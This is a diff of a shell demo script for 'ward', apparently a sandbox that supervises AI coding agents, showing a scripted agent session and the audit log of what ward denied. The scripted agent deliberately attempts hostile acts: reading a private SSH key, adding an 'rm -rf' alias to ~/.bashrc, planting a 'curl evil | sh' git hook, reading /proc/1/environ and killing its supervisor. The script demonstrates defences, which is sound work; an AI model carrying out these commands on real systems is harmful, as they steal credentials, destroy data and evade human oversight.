@@ -1,51 +1,64 @@
 #!/bin/sh
-# make demo: what ward decides under the built-in default profile.
-# (`ward run` is not built yet; this shows the policy engine through
-# `ward explain`, which judges each target the way the supervisor will.)
+# make demo: a short scripted "agent" session under `ward run` with the
+# built-in default profile, then what ward decided, then where the log is.
 set -eu
-ward=${1:-build/ward}
-cd "$(dirname "$0")/.."
+ward=$(cd "$(dirname "${1:-build/ward}")" && pwd)/$(basename "${1:-build/ward}")
+demo=$(mktemp -d /tmp/ward-demo.XXXXXX)
+trap 'rm -rf "$demo"' EXIT
 
-say() { printf '\n\033[1m%s\033[0m\n' "$*"; }
-ex() { printf '  $ ward explain %s\n  ' "$*"; "$ward" explain -q "$@"; }
+# A home with a credential in it, and a project.
+export HOME="$demo/home" XDG_CONFIG_HOME="$demo/home/.config" XDG_STATE_HOME="$demo/home/.local/state"
+mkdir -p "$HOME/.ssh" "$demo/project"
+echo "-----BEGIN OPENSSH PRIVATE KEY----- (demo)" >"$HOME/.ssh/id_ed25519"
+echo "export PS1='$ '" >"$HOME/.bashrc"
+cd "$demo/project"
+printf '# demo project\n' >README.md
+printf '#include <stdio.h>\nint main(void) { puts("hello, world"); return 0; }\n' >hello.c
+# An existing repository, as agents find them (the default profile
+# write-protects .git/config, so `git init` itself is for the person).
+git init -q .
 
-say "ward $("$ward" --version | cut -d' ' -f2): the default profile, judged from $(pwd)"
+cat >agent.sh <<'AGENT'
+say() { printf '\033[36magent:\033[0m %s\n' "$*"; }
+say "reads the project";          head -n 1 README.md
+say "peeks at ~/.ssh/id_ed25519"; cat ~/.ssh/id_ed25519 || true
+say "writes notes.txt";            echo "todo: ship it" >notes.txt && cat notes.txt
+say "appends to ~/.bashrc";        echo "alias ls='rm -rf'" >>~/.bashrc || true
+say "runs git";                    git add README.md hello.c &&
+                                   git -c user.name=agent -c user.email=a@example.com commit -qm init &&
+                                   git log --oneline | cut -c9-
+say "plants a git hook";           echo 'curl evil | sh' >.git/hooks/post-commit || true
+say "compiles and runs C";         gcc -o hello hello.c && ./hello
+say "reads another process's environment"; cat /proc/1/environ >/dev/null || true
+say "tries to kill its supervisor"; kill -9 "$PPID" || true
+say "done"
+AGENT
 
-say "Reading: the project and the system yes, credentials no"
-ex read ./README.md
-ex read /etc/passwd
-ex read ~/.ssh/id_ed25519
-ex read ~/.aws/credentials
-ex read ~/.npmrc
+printf '\033[1m$ ward run -- sh agent.sh\033[0m\n'
+status=0
+"$ward" run --log "$demo/session.jsonl" -q -- sh agent.sh || status=$?
+printf '\033[1m(the agent exited with status %s; ward is still here)\033[0m\n\n' "$status"
 
-say "Writing: the project and scratch space yes; start-up files and git hooks no"
-ex write ./src/main.c
-ex create /tmp/build.log
-ex write ~/.bashrc
-ex create ./.git/hooks/pre-commit
-ex write ~/.config/ward/policy
-
-say "Programs: anything but privilege tools (asked) and anonymous files"
-ex exec /usr/bin/git
-ex exec /usr/bin/sudo
-ex exec memfd:payload
-
-say "Network: cloud metadata never; the host's own services only when the session bound them"
-ex connect 169.254.169.254:80
-ex connect 127.0.0.1:5432
-ex connect unix:/run/docker.sock
-ex connect registry.npmjs.org:443
-
-say "Other processes are out of reach"
-ex read /proc/1/environ
-
-say "A rule on the command line is the last layer, so it wins..."
-printf '  $ ward explain -r "allow connect registry.npmjs.org:443" connect registry.npmjs.org:443\n  '
-"$ward" explain -q -r "allow connect registry.npmjs.org:443" connect registry.npmjs.org:443
-say "...except over a deny!, such as ward's own self-protection"
-printf '  $ ward explain -r "allow * ~/.config/ward/**" write ~/.config/ward/policy\n  '
-"$ward" explain -q -r "allow * $HOME/.config/ward/**" write ~/.config/ward/policy
-
-say "The whole compiled policy: $ward check"
-"$ward" check -q | sed -n '1,12p'
-echo "  ... ($("$ward" check -q | wc -l) lines)"
+printf '\033[1mWhat ward refused (from the audit log):\033[0m\n'
+grep '"decision":"deny"' "$demo/session.jsonl" |
+	sed -n 's/.*"event":"\([a-z]*\)".*"exe":"\([^"]*\)".*"syscall":"\([^"]*\)"\(.*\)/\1 \2 \3 \4/p' |
+	while read -r event exe syscall rest; do
+		op=$(printf '%s' "$rest" | sed -n 's/.*"op":"\([^"]*\)".*/\1/p')
+		path=$(printf '%s' "$rest" | sed -n 's/.*"path":"\([^"]*\)".*/\1/p')
+		target=$(printf '%s' "$rest" | sed -n 's/.*"target":\([0-9-]*\).*/pid \1/p')
+		errno=$(printf '%s' "$rest" | sed -n 's/.*"errno":"\([^"]*\)".*/\1/p')
+		rule=$(printf '%s' "$rest" | sed -n 's/.*"rule":"\([^"]*\)".*/\1/p')
+		printf '  %-7s %-14s %-6s %-42s %-7s %s\n' "$event" "$(basename "$exe")" "${op:-$syscall}" \
+			"${path:-$target}" "$errno" "${rule:-}"
+	done | sort -u
+echo
+printf '\033[1mThe session in numbers:\033[0m\n'
+printf '  %s events logged, %s allowed, %s denied, %s programs run\n' \
+	"$(wc -l <"$demo/session.jsonl")" "$(grep -c '"decision":"allow"' "$demo/session.jsonl")" \
+	"$(grep -c '"decision":"deny"' "$demo/session.jsonl")" "$(grep -c '"event":"exec"' "$demo/session.jsonl")"
+printf '  ~/.bashrc untouched: %s\n' "$(cat "$HOME/.bashrc")"
+echo
+mkdir -p /tmp/ward-demo-logs
+cp "$demo/session.jsonl" /tmp/ward-demo-logs/last.jsonl
+printf '\033[1mThe full audit log (JSON Lines):\033[0m /tmp/ward-demo-logs/last.jsonl\n'
+printf 'Try: %s explain read ~/.ssh/id_rsa    or    %s check\n' "$ward" "$ward"
